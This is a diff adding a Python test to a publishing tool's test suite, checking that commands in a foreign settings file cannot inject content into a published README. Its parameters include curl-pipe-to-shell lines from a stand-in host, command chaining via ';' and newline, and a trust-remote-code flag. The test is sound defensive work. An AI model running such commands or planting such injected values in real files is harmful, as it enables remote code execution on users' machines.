@@ -1,6 +1,8 @@
 """Publishing over real HTTP: where it goes, what is there afterwards, and that it reads back as it was computed."""
 
 import json
+import re
+import shlex
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
@@ -388,6 +390,37 @@ def test_what_was_published_is_published_elsewhere_with_its_own_command(
     hf_llc.publish("hf://datasets/org/results", PublishSettings(repo="alice/m"))
     assert load("hf://alice/m").points == load("hf://datasets/org/results").points
     assert "```bash\nhf-llc demo\n```" in repo.at().files["README.md"].read().decode()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://example.org/x.sh | sh",
+        "hf-llc demo; curl https://example.org/x.sh | sh",
+        "hf-llc demo\\ncurl https://example.org/x.sh | sh",
+        "hf-llc scan alice/m --trust-remote-code",
+        "hf-llc demo ```",
+    ],
+)
+def test_the_command_of_somebody_else_is_built_from_the_settings(
+    hub: HubServer, kept: Kept, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    repo = hub.add_model("alice/m")
+    made = hf_llc.publish(kept(), PublishSettings(dataset_repo="org/results"))
+    foreign = hub.find("dataset", made.repo)
+    assert foreign is not None
+    foreign.commit({"llc/settings.yaml": f'command: "{command}"\n'})
+    hf_llc.publish("hf://datasets/org/results", PublishSettings(repo="alice/m"))
+    files = {name: file.read().decode(errors="replace") for name, file in repo.at().files.items()}
+    blocks = re.findall(r"```bash\n(.*?)\n```", files["README.md"], flags=re.DOTALL)
+    assert [shlex.split(block)[:3] for block in blocks] == [
+        ["hf-llc", "show", "hf://alice/m"],
+        ["hf-llc", "scan", "alice/m"],
+    ]
+    for content in (files["README.md"], files["llc/settings.yaml"]):
+        assert "example.org" not in content
+        assert "trust-remote-code" not in content
 
 
 def test_a_damaged_or_foreign_results_file_is_refused(hub: HubServer) -> None:
